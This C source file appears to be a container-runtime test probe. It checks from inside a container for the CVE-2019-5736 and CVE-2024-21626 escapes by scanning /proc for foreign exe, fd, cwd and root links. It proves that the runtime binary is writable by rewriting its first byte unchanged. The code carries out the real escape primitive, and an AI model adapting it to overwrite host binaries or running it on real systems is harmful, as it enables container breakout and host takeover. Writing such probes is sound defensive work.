/*
 * probe-exec-escape — from inside a container, try the two ways out that `exec` (stage 9) has
 * opened in real runtimes, against every other process of the container, until told to stop.
 *
 *   CVE-2019-5736  open /proc/PID/exe of a process whose binary is not the container's (the
 *                  runtime, caught before or while it runs in here) and keep it (O_PATH); at
 *                  the end, reopen it for writing and write its first byte back unchanged: if
 *                  that works, the host's runtime binary could have been overwritten.
 *   CVE-2024-21626 a descriptor (>= 3; 0-2 are the caller's streams, passed on by contract), a
 *                  working directory or a root of another process that is not the object its
 *                  path names in here: a file or directory of the host, left open.
 *
 * Usage: probe-exec-escape STOPFILE
 *   Prints "ready", scans /proc over and over until STOPFILE exists (at most 120 s), then tries
 *   the writes and prints the results.
 *
 * Output (stdout), one line each:
 *   ready
 *   ESCAPE exe-writable pid=P target=T   the runtime's binary could be written (CVE-2019-5736)
 *   ESCAPE fd pid=P fd=N target=T        a host object held open (CVE-2024-21626)
 *   ESCAPE cwd|root pid=P target=T       a working directory or root outside the container
 *   held exe pid=P target=T: ERR         a foreign binary was opened but not writable (info)
 *   seen=N scans=M                       other processes seen, /proc scans made
 * Exit codes: 0 done (look for ESCAPE lines), 1 a runtime failure, 2 usage error.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 32
#define MAX_SEEN 4096

static int held[MAX_HELD], held_pid[MAX_HELD], nheld;
static char held_target[MAX_HELD][PATH_MAX];
static int seen[MAX_SEEN], nseen;

static void usage(FILE *f)
{
	fprintf(f, "usage: probe-exec-escape STOPFILE\n"
		   "  scan /proc for a way out (a foreign /proc/PID/exe, fd, cwd or root) until\n"
		   "  STOPFILE exists; print ESCAPE lines for what worked, then seen=N scans=M.\n"
		   "  exit codes: 0 done, 1 runtime failure, 2 usage error.\n");
}

/*
 * Is fd (an O_PATH descriptor of another process's file) something else than what its path
 * names in here? Then it came from outside the container. target gets the path.
 */
static int foreign(int fd, const char *link, char *target, size_t size)
{
	struct stat a, b;
	ssize_t n = readlink(link, target, size - 1);

	if (n < 0)
		return 0;
	target[n] = '\0';
	if (target[0] != '/') /* pipe:[...], socket:[...], anon_inode:... */
		return 0;
	if (fstat(fd, &a) < 0)
		return 0;
	return stat(target, &b) < 0 || a.st_dev != b.st_dev || a.st_ino != b.st_ino;
}

static void note_seen(int pid)
{
	for (int i = 0; i < nseen; i++)
		if (seen[i] == pid)
			return;
	if (nseen < MAX_SEEN)
		seen[nseen++] = pid;
}

static void try_exe(int pid)
{
	char path[64], target[PATH_MAX];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	if (nheld < MAX_HELD && foreign(fd, path, target, sizeof(target))) {
		for (int i = 0; i < nheld; i++)
			if (strcmp(held_target[i], target) == 0) {
				close(fd);
				return;
			}
		held[nheld] = fd;
		held_pid[nheld] = pid;
		snprintf(held_target[nheld++], PATH_MAX, "%s", target);
		return;
	}
	close(fd);
}

static void try_link(int pid, const char *what, const char *link)
{
	char target[PATH_MAX];
	int fd = open(link, O_PATH | O_CLOEXEC);

	if (fd < 0)
		return;
	if (foreign(fd, link, target, sizeof(target)))
		printf("ESCAPE %s pid=%d target=%s\n", what, pid, target);
	close(fd);
}

static void try_fds(int pid)
{
	char path[64], link[128];
	struct dirent *d;
	DIR *dp;

	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	dp = opendir(path);
	if (dp == NULL)
		return;
	while ((d = readdir(dp)) != NULL) {
		char target[PATH_MAX];
		int n = atoi(d->d_name), fd;

		if (d->d_name[0] == '.' || n <= 2)
			continue;
		snprintf(link, sizeof(link), "%s/%d", path, n);
		fd = open(link, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (foreign(fd, link, target, sizeof(target)))
			printf("ESCAPE fd pid=%d fd=%d target=%s\n", pid, n, target);
		close(fd);
	}
	closedir(dp);
}

static void scan(void)
{
	struct dirent *d;
	DIR *dp = opendir("/proc");
	int self = getpid();

	if (dp == NULL)
		return;
	while ((d = readdir(dp)) != NULL) {
		char link[64];
		int pid = atoi(d->d_name);

		if (pid <= 0 || pid == self)
			continue;
		note_seen(pid);
		try_exe(pid);
		try_fds(pid);
		snprintf(link, sizeof(link), "/proc/%d/cwd", pid);
		try_link(pid, "cwd", link);
		snprintf(link, sizeof(link), "/proc/%d/root", pid);
		try_link(pid, "root", link);
	}
	closedir(dp);
	fflush(stdout);
}

/* Reopen a held binary for writing and write its first byte back: proof, without damage. */
static void try_write(int i)
{
	char path[64];
	unsigned char byte;
	int rd, wr = -1;
	const char *err = NULL;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
	rd = open(path, O_RDONLY | O_CLOEXEC);
	if (rd < 0 || pread(rd, &byte, 1, 0) != 1)
		err = strerror(errno);
	/* ETXTBSY while something still runs it: a real attacker waits; so do we, a little. */
	for (int tries = 0; err == NULL && tries < 200; tries++) {
		wr = open(path, O_WRONLY | O_CLOEXEC);
		if (wr >= 0 || errno != ETXTBSY)
			break;
		usleep(10000);
	}
	if (err == NULL && wr < 0)
		err = strerror(errno);
	if (err == NULL && pwrite(wr, &byte, 1, 0) != 1)
		err = strerror(errno);
	if (err == NULL)
		printf("ESCAPE exe-writable pid=%d target=%s\n", held_pid[i], held_target[i]);
	else
		printf("held exe pid=%d target=%s: %s\n", held_pid[i], held_target[i], err);
	if (rd >= 0)
		close(rd);
	if (wr >= 0)
		close(wr);
}

int main(int argc, char **argv)
{
	time_t end = time(NULL) + 120;
	long scans = 0;

	if (argc == 2 && (strcmp(argv[1], "--help") == 0 || strcmp(argv[1], "-h") == 0)) {
		usage(stdout);
		return 0;
	}
	if (argc != 2) {
		usage(stderr);
		return 2;
	}
	printf("ready\n");
	fflush(stdout);
	while (access(argv[1], F_OK) < 0 && time(NULL) < end) {
		scan();
		scans++;
	}
	for (int i = 0; i < nheld; i++)
		try_write(i);
	printf("seen=%d scans=%ld\n", nseen, scans);
	return fflush(stdout) == 0 ? 0 : 1;
}
